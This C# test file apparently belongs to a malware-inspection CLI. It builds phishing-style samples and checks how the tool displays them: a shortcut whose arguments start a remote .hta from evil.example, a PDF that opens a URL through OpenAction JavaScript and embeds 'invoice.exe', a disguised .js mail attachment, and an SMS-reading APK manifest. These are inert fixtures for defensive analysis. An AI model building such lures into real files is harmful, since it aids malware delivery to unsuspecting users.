using System.Formats.Tar;
using System.IO.Compression;
using VtKit.StaticAnalysis.Tests;

namespace VtKit.Cli.Tests;

/// <summary>What a person reads of files of certain formats, at 80 columns. The hashes are those of this machine's packers, and left out.</summary>
public sealed class InspectFormatsTests : IDisposable
{
    private readonly CliRun _vtk = new();

    public void Dispose() => _vtk.Dispose();

    [Fact]
    public Task A_shortcut_shows_what_it_starts() => ShowAsync("inspect-lnk", "invoice.lnk", new ShortcutBuilder
    {
        Target = ["Windows", "System32", "cmd.exe"],
        Texts = ["Open the invoice", null, @"C:\Temp", "/c start http://evil.example/a.hta", @"%SystemRoot%\shell32.dll"],
        Environment = @"%windir%\system32\cmd.exe",
        Machine = "desktop-7",
        Window = 7,
    }.Build());

    [Fact]
    public async Task A_package_shows_what_it_asks_for()
    {
        const uint name = 0x0101_0003;
        var manifest = new BinaryXmlBuilder().Open("manifest", ("versionName", 0x0101_021C, "1.2.3"), ("package", 0, "org.example.torch"))
            .Add("uses-sdk", ("minSdkVersion", 0x0101_020C, 21), ("targetSdkVersion", 0x0101_0270, 28))
            .Add("uses-permission", ("name", name, "android.permission.INTERNET"))
            .Add("uses-permission", ("name", name, "android.permission.READ_SMS"))
            .Add("uses-permission", ("name", name, "android.permission.CAMERA"))
            .Open("activity", ("name", name, ".Main")).Open("intent-filter")
            .Add("action", ("name", name, "android.intent.action.MAIN")).Add("category", ("name", name, "android.intent.category.LAUNCHER"))
            .Close("intent-filter").Close("activity").Add("service", ("name", name, ".Work")).Add("service", ("name", name, ".Send")).Close("manifest").Build();
        using var bytes = new MemoryStream();
        using (var zip = new ZipArchive(bytes, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (entry, content) in new[] { ("AndroidManifest.xml", manifest), ("classes.dex", "dex\n035\0"u8.ToArray()) })
            {
                using var stream = zip.CreateEntry(entry, CompressionLevel.NoCompression).Open();
                stream.Write(content);
            }
        }
        await ShowAsync("inspect-apk", "torch.apk", bytes.ToArray());
    }

    [Fact]
    public Task A_message_shows_what_it_says_and_brings() => ShowAsync("inspect-mail", "mail.eml", CliConsole.Utf8.GetBytes(
        "From: =?utf-8?Q?J=C3=B6rg?= <a@example.com>\nTo: b@example.com\nSubject: =?utf-8?B?RsOkbGxpZ2UgUmVjaG51bmc=?=\nDate: Mon, 1 Jan 2024 00:00:00 +0000\n" +
        "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain\n\nSee the file.\n--b\nContent-Type: application/zip\n" +
        "Content-Disposition: attachment; filename*=utf-8''R%C3%A4chnung.js\nContent-Transfer-Encoding: base64\n\nV1NjcmlwdC5FY2hvKDEpOwo=\n--b--\n"));

    [Fact]
    public async Task An_archive_shows_what_is_in_it()
    {
        using var bytes = new MemoryStream();
        using (var tar = new TarWriter(bytes, TarEntryFormat.Ustar, leaveOpen: true))
            foreach (var name in new[] { "readme.txt", "bin/run.sh" })
                tar.WriteEntry(new UstarTarEntry(TarEntryType.RegularFile, name) { DataStream = new MemoryStream("#!/bin/sh\necho hi\n"u8.ToArray()), ModificationTime = DateTimeOffset.UnixEpoch });
        await ShowAsync("inspect-tar", "tools.tar", bytes.ToArray());
    }

    [Fact]
    public async Task A_document_shows_what_its_streams_hold()
    {
        var (entries, objects) = PdfBuilder.Pack(
            (1, "<< /Type /Catalog /OpenAction 2 0 R >>"),
            (2, "<< /S /JavaScript /JS (app.launchURL\\(\"http://evil.example/a\"\\)) >>"),
            (3, "<< /Type /Filespec /UF (invoice.exe) /EF << /F 4 0 R >> >>"));
        await ShowAsync("inspect-pdf", "invoice.pdf", new PdfBuilder().Object(7, "(http://open.example/)")
            .Stream(9, entries + " /Filter /ASCIIHexDecode", PdfBuilder.Hex(objects))
            .Stream(4, "/Type /EmbeddedFile /Filter /ASCIIHexDecode", PdfBuilder.Hex("MZ"u8.ToArray())).Build());
    }

    private async Task ShowAsync(string snapshot, string name, byte[] content)
    {
        _vtk.OutIsTerminal = true;
        _vtk.Environment["NO_COLOR"] = "1";
        var result = await _vtk.RunAsync("inspect", _vtk.WriteFile(name, content));
        result.Code.ShouldBe(ExitCode.Ok, result.Error);
        result.Out.Split('\n').Max(line => line.Length).ShouldBeLessThanOrEqualTo(80);
        string[] hashes = ["Entropy", "SHA-256", "SHA-1", "MD5", "ssdeep", "TLSH"];
        var lines = result.Out.Split('\n').ToList();
        // What goes on below a hash belongs to it.
        for (var i = lines.Count - 1; i >= 0; i--)
        {
            if (!hashes.Any(hash => lines[i].StartsWith("  " + hash, StringComparison.Ordinal))) continue;
            do lines.RemoveAt(i);
            while (i < lines.Count && lines[i].StartsWith("               ", StringComparison.Ordinal));
        }
        Snapshot.Verify(string.Join('\n', lines), snapshot);
    }
}
